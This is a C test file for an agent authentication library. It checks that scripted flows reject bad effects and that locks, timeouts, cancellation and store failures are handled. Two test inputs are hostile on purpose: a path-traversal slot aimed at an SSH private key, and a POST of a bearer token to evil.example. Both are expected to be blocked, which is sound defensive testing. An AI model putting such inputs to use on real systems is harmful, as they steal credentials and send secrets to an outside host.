/* Tests of flows whose module asks for anything: a function that answers in the core's place. */
#include <pthread.h>
#include <string.h>

#include "check.h"
#include "clock.h"
#include "failing_store.h"
#include "flow.h"
#include "text.h"

static const char config_json[] =
    "{\"base_url\":\"https://chatgpt.com/backend-api\",\"agent_identity\":true,\"profile\":\"auth-api\","
    "\"all_surfaces\":true,\"abom\":{\"agent_version\":\"0\",\"agent_harness_id\":\"x\",\"running_location\":\"x\"}}";
static const char credentials_json[] =
    "{\"kind\":\"chatgpt\",\"access_token\":\"secret-token\",\"account_id\":\"acct-1\"}";

enum { most_effects = 8, most_events = 128 };

/* A core that answers with these effects, the last of them again and again, and what it was told. */
static struct {
	const char *effects[most_effects]; /* JSON; ends with a NULL */
	const char *response;              /* in place of all of them */
	int64_t pause_ms;                  /* before the second answer */
	int count;
	char events[most_events][64]; /* "failed timeout" */
} script;

static int scripted(agentassert *core, aa_arena *arena, const char *method, const aa_value *params, aa_value **result,
		    agentassert_error *error)
{
	const aa_value *event = aa_get_map(params, "event");
	int i = script.count < most_events ? script.count : most_events - 1;
	(void)core;
	(void)method;
	(void)error;
	snprintf(script.events[i], sizeof script.events[i], "%s %s", aa_copy(arena, aa_get_text(event, "type")).data,
		 aa_copy(arena, aa_get_text(event, "failure")).data);
	if (script.response) {
		script.count++;
		return aa_decode_json(arena, aa_text_of(script.response), result) == AA_OK ? 0 : -1;
	}
	if (script.count == 1 && script.pause_ms > 0) {
		const agentassert_context context = {.deadline = AA_NEVER};
		agentassert_context_wait(&context, script.pause_ms);
	}
	int effect = 0;
	while (effect < script.count && script.effects[effect + 1]) {
		effect++;
	}
	script.count++;
	aa_value *value;
	REQUIRE(aa_decode_json(arena, aa_text_of(script.effects[effect]), &value) == AA_OK, "%s",
		script.effects[effect]);
	*result = aa_set(aa_set(aa_map(arena), "effect", value), "state", aa_binary(arena, AA_LITERAL("x")));
	return 0;
}

static const char *last_event(void)
{
	return script.events[script.count > most_events ? most_events - 1 : script.count - 1];
}

static int64_t now(void *self)
{
	(void)self;
	return 1764000000;
}

static int zeroes(void *self, void *buffer, size_t size)
{
	(void)self;
	memset(buffer, 0, size);
	return 0;
}

/* Waits until nobody wants its answer any more. */
static agentassert_sent hang(void *self, const agentassert_http_request *request, agentassert_http_response *response,
			     const agentassert_context *context)
{
	(void)self;
	(void)request;
	(void)response;
	return agentassert_context_wait(context, 60000) ? AGENTASSERT_CANCELED : AGENTASSERT_TIMEOUT;
}

/* What flows are run with. */
struct set_up {
	aa_arena *arena;
	agentassert_store *inner;
	agentassert_store store;
	struct aa_overlay overlay;
	struct aa_memory memory;
	struct aa_cancel cancel;
	struct aa_host host;
	agentassert_error error;
};

static aa_value *json(aa_arena *arena, const char *text)
{
	aa_value *value = NULL;
	REQUIRE(aa_decode_json(arena, aa_text_of(text), &value) == AA_OK, "%s", text);
	return value;
}

static void set_up(struct set_up *s)
{
	memset(s, 0, sizeof *s);
	memset(&script, 0, sizeof script);
	s->arena = aa_arena_new();
	REQUIRE(!agentassert_memory_store(&s->inner, NULL), "a store");
	s->store = *s->inner;
	aa_cancel_init(&s->cancel);
	aa_memory_init(&s->memory);
	s->host = (struct aa_host){
	    .call = scripted,
	    .store = &s->overlay,
	    .memory = &s->memory,
	    .config = json(s->arena, config_json),
	    .send = hang,
	    .now = now,
	    .entropy = zeroes,
	    .held_ms = AA_LONGEST_HELD,
	};
}

static void tear_down(struct set_up *s)
{
	aa_memory_destroy(&s->memory);
	aa_cancel_destroy(&s->cancel);
	agentassert_store_close(s->inner);
	aa_arena_free(s->arena);
}

/* Runs a flow, and returns the code that it ends with. The store is as it is by now. */
static const char *run(struct set_up *s)
{
	const struct aa_flow_call call = {.surface = AA_LITERAL("apps"), .thread = AA_LITERAL("")};
	struct aa_flow_result result;
	aa_overlay_init(&s->overlay, &s->store, AA_MOST_THREADS);
	s->error = (agentassert_error){{0}, {0}};
	aa_flow_run(&s->host, &s->cancel, &call, json(s->arena, credentials_json), s->arena, &result, &s->error);
	aa_overlay_destroy(&s->overlay);
	CHECK(!strstr(s->error.message, "secret"), "%s", s->error.message);
	return s->error.code;
}

#define LOCK "{\"type\":\"lock\",\"slot\":\"identity\"}"
#define UNLOCK "{\"type\":\"unlock\",\"slot\":\"identity\"}"
#define LOAD "{\"type\":\"load\",\"slot\":\"backoff\"}"
#define REGISTER                                                                                                       \
	"{\"type\":\"http\",\"method\":\"POST\",\"url\":\"https://auth.openai.com/api/accounts/v1/agent/agent-1/"      \
	"task/register\",\"headers\":[{\"name\":\"content-type\",\"value\":\"application/json\"}],"                    \
	"\"timeout_ms\":30000,\"size_limit\":1000}"

/* Whether the identity's lock is free. */
static int is_free(struct set_up *s)
{
	const agentassert_context context = {.cancel = &s->cancel, .deadline = aa_monotonic_after(1000)};
	void *lock;
	if (s->inner->lock(s->inner->self, "identity", &context, &lock, NULL)) {
		return 0;
	}
	s->inner->unlock(s->inner->self, lock);
	return 1;
}

static void test_endless(void)
{
	static const struct {
		const char *name, *effects[2], *code;
	} cases[] = {
	    {"loads", {LOAD}, "sandbox_failed"},
	    {"entropy", {"{\"type\":\"entropy\",\"size\":64}"}, "sandbox_failed"},
	    {"locks", {LOCK, LOAD}, "sandbox_failed"},
	    {"a lock that it has", {LOCK, LOCK}, "policy_violation"},
	    {"one that it has not", {UNLOCK}, "policy_violation"},
	    {"a file", {"{\"type\":\"load\",\"slot\":\"record/../../.ssh/id_ed25519\"}"}, "policy_violation"},
	    {"another server",
	     {LOCK, "{\"type\":\"http\",\"method\":\"POST\",\"url\":\"https://evil.example/\",\"headers\":[{\"name\":"
		    "\"authorization\",\"value\":\"Bearer secret-token\"}],\"timeout_ms\":1000,\"size_limit\":1000}"},
	     "policy_violation"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct set_up s;
		set_up(&s);
		memcpy(script.effects, cases[i].effects, sizeof cases[i].effects);
		CHECK(strcmp(run(&s), cases[i].code) == 0, "%s: %s", cases[i].name, s.error.code);
		CHECK(script.count <= 96, "%s: %d steps", cases[i].name, script.count);
		CHECK(is_free(&s), "%s: the lock", cases[i].name);
		tear_down(&s);
	}
}

static void test_malformed(void)
{
	static const struct {
		const char *name, *response;
	} cases[] = {
	    {"no effect", "{}"},
	    {"an effect that is a text", "{\"effect\":\"load\"}"},
	    {"an effect that is a list", "{\"effect\":[{\"type\":\"load\",\"slot\":\"identity\"}]}"},
	    {"a type that is two", "{\"effect\":{\"type\":[\"load\",\"save\"]}}"},
	    {"a slot that is bytes", "{\"effect\":{\"type\":\"load\",\"slot\":{\"utf8\":\"identity\"}}}"},
	    {"an answer that is a text", "{\"effect\":{\"type\":\"done\",\"authorization\":\"x\"}}"},
	    {"no answer", "{\"effect\":{\"type\":\"done\"}}"},
	    {"a state that is a text", "{\"state\":\"x\",\"effect\":" LOAD "}"},
	    {"a list", "[]"},
	    {"an answer that is believed by none",
	     "{\"effect\":{\"type\":\"done\",\"authorization\":{\"mode\":\"bearer\",\"reason\":\"feature-off\","
	     "\"header\":\"Bearer secret-key\",\"account_id\":\"acct-1\",\"valid_until\":1764000000}}}"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct set_up s;
		set_up(&s);
		script.response = cases[i].response;
		CHECK(strcmp(run(&s), "policy_violation") == 0, "%s: %s", cases[i].name, s.error.code);
		tear_down(&s);
	}
}

/* A store whose load and probe wait until nobody wants to know. */
static int slow_load(void *self, const char *slot, const agentassert_context *context,
		     agentassert_record_answer *answer, agentassert_error *error)
{
	(void)self;
	(void)slot;
	(void)answer;
	(void)error;
	agentassert_context_wait(context, 60000);
	return -1;
}

static int slow_probe(void *self, const char *slot, const agentassert_context *context, agentassert_error *error)
{
	(void)self;
	(void)slot;
	(void)error;
	agentassert_context_wait(context, 60000);
	return -1;
}

static void test_time_under_locks(void)
{
	static const struct {
		const char *name, *then, *last;
		int is_slow;
	} cases[] = {
	    {"a request", REGISTER, "failed timeout", 0},
	    {"a pause", "{\"type\":\"wait\",\"wait_ms\":10000}", "failed store", 0},
	    {"a load", LOAD, "failed store", 1},
	    {"a load that takes no time", LOAD, "failed store", 0},
	    {"a probe", "{\"type\":\"probe\",\"slot\":\"identity\"}", "failed store", 1},
	    {"a record, which is saved", "{\"type\":\"save\",\"slot\":\"backend\",\"record\":{\"utf8\":\"{}\"}}",
	     "done ", 0},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct set_up s;
		set_up(&s);
		s.host.held_ms = 20;
		script.pause_ms = 30;
		if (cases[i].is_slow) {
			s.store.load = slow_load;
			s.store.probe = slow_probe;
		}
		script.effects[0] = LOCK;
		script.effects[1] = cases[i].then;
		CHECK(strcmp(run(&s), "sandbox_failed") == 0, "%s: %s", cases[i].name, s.error.code);
		CHECK(script.count == 10, "%s: eight steps are left, not %d", cases[i].name, script.count);
		CHECK(strcmp(last_event(), cases[i].last) == 0, "%s: %s", cases[i].name, last_event());
		CHECK(is_free(&s), "%s: the lock", cases[i].name);
		tear_down(&s);
	}
}

static void test_canceled(void)
{
	static const char *const effects[] = {LOAD, REGISTER, "{\"type\":\"wait\",\"wait_ms\":10000}", LOCK,
					      "{\"type\":\"probe\",\"slot\":\"identity\"}"};
	for (size_t i = 0; i < sizeof effects / sizeof effects[0]; i++) {
		struct set_up s;
		set_up(&s);
		aa_cancel(&s.cancel);
		script.effects[0] = effects[i];
		run(&s);
		int is_request = strcmp(effects[i], REGISTER) == 0; /* without a lock, which there is none any more */
		CHECK(is_request || script.count < 2 || strcmp(script.events[1], "failed canceled") == 0, "%s: %s",
		      effects[i], script.events[1]);
		tear_down(&s);
	}
}

/* A store that gives a lock when nobody waits for it any more. */
static struct aa_cancel *late_cancel;
static int late_locks;

static int late_lock(void *self, const char *slot, const agentassert_context *context, void **lock,
		     agentassert_error *error)
{
	(void)self;
	(void)slot;
	(void)context;
	(void)error;
	aa_cancel(late_cancel);
	late_locks++;
	*lock = NULL;
	return 0;
}

static void late_unlock(void *self, void *lock)
{
	(void)self;
	(void)lock;
	late_locks--;
}

static void test_late_lock(void)
{
	struct set_up s;
	set_up(&s);
	s.store.lock = late_lock;
	s.store.unlock = late_unlock;
	late_cancel = &s.cancel;
	script.effects[0] = LOCK;
	run(&s);
	CHECK(late_locks == 0, "%d locks are not given back", late_locks);
	CHECK(strcmp(script.events[1], "failed canceled") == 0, "%s", script.events[1]);
	tear_down(&s);
}

/* A store that takes note whether a save is canceled. */
static int saves, canceled_saves;

static int noting_save(void *self, const char *slot, const void *record, size_t size,
		       const agentassert_context *context, agentassert_error *error)
{
	(void)self;
	(void)slot;
	(void)record;
	(void)size;
	(void)error;
	saves++;
	canceled_saves += agentassert_context_canceled(context);
	return 0;
}

static void test_saves(void)
{
	struct set_up s;
	set_up(&s);
	s.store.save = noting_save;
	aa_cancel(&s.cancel);
	script.effects[0] = "{\"type\":\"save\",\"slot\":\"backend\",\"record\":{\"utf8\":\"{}\"}}";
	run(&s);
	CHECK(saves > 0 && canceled_saves == 0, "what the backend has registered is saved whatever happens");
	tear_down(&s);
}

static void test_failures_of_stores(void)
{
	static const struct {
		const char *code, *effect, *want;
	} cases[] = {
	    {"record_changed", "{\"type\":\"swap\",\"slot\":\"identity\",\"record\":{\"utf8\":\"{}\"}}",
	     "failed changed"},
	    {"store_read_only", "{\"type\":\"swap\",\"slot\":\"identity\",\"record\":{\"utf8\":\"{}\"}}",
	     "failed read-only"},
	    {"auth_file_write_failed", "{\"type\":\"save\",\"slot\":\"backend\",\"record\":{\"utf8\":\"{}\"}}",
	     "failed store"},
	    {"store_read_only", "{\"type\":\"save\",\"slot\":\"backoff\",\"record\":{\"utf8\":\"{}\"}}", "done "},
	    {"", LOCK, "failed store"},
	    {"Not A Code", LOCK, "failed store"},
	    {"policy_violation", LOAD, ""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct set_up s;
		set_up(&s);
		struct failing_store failing = {.inner = s.inner, .code = cases[i].code, .method = "all"};
		s.store = failing_store_methods(&failing);
		script.effects[0] = cases[i].effect;
		run(&s);
		if (*cases[i].want) {
			CHECK(strcmp(script.events[1], cases[i].want) == 0, "%s: %s", cases[i].code, script.events[1]);
		} else {
			CHECK(script.count == 1 && strcmp(s.error.code, cases[i].code) == 0, "%s", s.error.code);
		}
		tear_down(&s);
	}
}

static int write_one(struct aa_overlay *overlay, const char *slot)
{
	const agentassert_context context = {.deadline = AA_NEVER};
	agentassert_error error;
	aa_bytes none = {NULL, 0};
	return aa_overlay_write(overlay, slot, none, AA_LITERAL("{}"), &context, &error);
}

static void test_overlay(void)
{
	static const char *const written[] = {"backend", "thread/1", "thread/2", "thread/1", "thread/3"};
	static const struct {
		const char *slot;
		int is_kept;
	} cases[] = {{"backend", 1}, {"thread/1", 1}, {"thread/2", 0}, {"thread/3", 1}};
	struct set_up s;
	set_up(&s);
	struct failing_store failing = {.inner = s.inner, .code = "store_read_only", .method = "save"};
	const agentassert_store store = failing_store_methods(&failing);
	const agentassert_context context = {.deadline = AA_NEVER};
	agentassert_error error;
	aa_overlay_init(&s.overlay, &store, 2);
	for (size_t i = 0; i < sizeof written / sizeof written[0]; i++) {
		CHECK(write_one(&s.overlay, written[i]) == -1, "it is read-only");
	}
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		aa_bytes record, stored;
		CHECK(!aa_overlay_load(&s.overlay, s.arena, cases[i].slot, &context, &record, &stored, &error), "%s",
		      cases[i].slot);
		CHECK((record.data != NULL) == cases[i].is_kept && !stored.data, "%s", cases[i].slot);
	}
	/* An identity that the store does not let go stays. */
	aa_bytes none = {NULL, 0}, record, stored;
	failing.method = "swap";
	CHECK(!s.inner->save(s.inner->self, "identity", "{}", 2, &context, NULL), "an identity");
	CHECK(aa_overlay_swap(&s.overlay, s.arena, "identity", AA_LITERAL("{}"), none, &context, &error) == -1,
	      "its removal");
	CHECK(!aa_overlay_load(&s.overlay, s.arena, "identity", &context, &record, &stored, &error) && record.data,
	      "it is there");
	/* One that it does not take is kept until another takes its place. */
	CHECK(aa_overlay_swap(&s.overlay, s.arena, "identity", AA_LITERAL("{}"), AA_LITERAL("{1}"), &context, &error) ==
		  -1,
	      "another one");
	CHECK(!aa_overlay_load(&s.overlay, s.arena, "identity", &context, &record, &stored, &error) &&
		  aa_is(record, "{1}") && aa_is(stored, "{}"),
	      "it counts");
	CHECK(!s.inner->save(s.inner->self, "identity", "{2}", 3, &context, NULL), "somebody else's");
	CHECK(!aa_overlay_load(&s.overlay, s.arena, "identity", &context, &record, &stored, &error) &&
		  aa_is(record, "{2}"),
	      "that counts");
	aa_overlay_destroy(&s.overlay);
	tear_down(&s);
}

static void test_records(void)
{
	enum { count = 2000 };
	struct aa_records records = {0};
	char slot[32];
	for (int round = 0; round < 2; round++) {
		for (int i = 0; i < count; i++) {
			snprintf(slot, sizeof slot, "thread/%d", i);
			aa_bytes record = {slot, strlen(slot)};
			CHECK(!aa_records_put(&records, slot, record, (aa_bytes){NULL, 0}), "memory");
		}
	}
	CHECK(records.count == count && strcmp(records.first->slot, "thread/0") == 0, "%zu", records.count);
	for (int i = 0; i < count; i += 2) {
		snprintf(slot, sizeof slot, "thread/%d", i);
		aa_records_remove(&records, slot);
	}
	for (int i = 0; i < count; i++) {
		snprintf(slot, sizeof slot, "thread/%d", i);
		const struct aa_entry *entry = aa_records_find(&records, slot);
		CHECK((entry != NULL) == i % 2 && (!entry || aa_is(entry->record, slot)), "%s", slot);
	}
	aa_records_clear(&records);
	CHECK(records.count == 0 && !aa_records_find(&records, "thread/1"), "nothing is left");
}

/* Some who take turns, one at a time. */
static struct aa_turns turns;
static int inside, most_inside, served;

struct taker {
	pthread_t thread;
	struct aa_cancel cancel;
};

static void *take_turns(void *self)
{
	struct taker *taker = self;
	const agentassert_context context = {.cancel = &taker->cancel, .deadline = AA_NEVER};
	for (int i = 0; i < 50; i++) {
		struct aa_turn *turn;
		if (aa_turns_take(&turns, "identity", &context, &turn, NULL)) {
			return NULL;
		}
		/* The turn is what makes this safe. */
		inside++;
		most_inside = inside > most_inside ? inside : most_inside;
		served++;
		inside--;
		aa_turns_end(&turns, turn);
	}
	return NULL;
}

static void test_turns(void)
{
	enum { count = 8 };
	static struct taker takers[count];
	struct aa_turn *turn, *other, *none;
	struct aa_cancel cancel;
	aa_turns_init(&turns);
	aa_cancel_init(&cancel);
	const agentassert_context context = {.cancel = &cancel, .deadline = AA_NEVER};
	const agentassert_context impatient = {.cancel = &cancel, .deadline = aa_monotonic_after(1)};
	agentassert_error error;
	CHECK(!aa_turns_take(&turns, "identity", &context, &turn, NULL), "the first");
	CHECK(!aa_turns_take(&turns, "thread/1", &context, &other, NULL), "another name");
	CHECK(aa_turns_take(&turns, "identity", &impatient, &none, &error) == -1, "one who gives up");
	CHECK(strcmp(error.code, "canceled") == 0, "%s", error.code);
	for (int i = 0; i < count; i++) {
		aa_cancel_init(&takers[i].cancel);
		pthread_create(&takers[i].thread, NULL, take_turns, &takers[i]);
	}
	aa_turns_end(&turns, other);
	aa_turns_end(&turns, turn);
	for (int i = 0; i < count; i++) {
		pthread_join(takers[i].thread, NULL);
		aa_cancel_destroy(&takers[i].cancel);
	}
	CHECK(served == count * 50 && most_inside == 1, "%d turns, %d at once", served, most_inside);
	aa_cancel_destroy(&cancel);
	aa_turns_destroy(&turns);
}

int main(void)
{
	test_endless();
	test_malformed();
	test_time_under_locks();
	test_canceled();
	test_late_lock();
	test_saves();
	test_failures_of_stores();
	test_overlay();
	test_records();
	test_turns();
	return test_result();
}
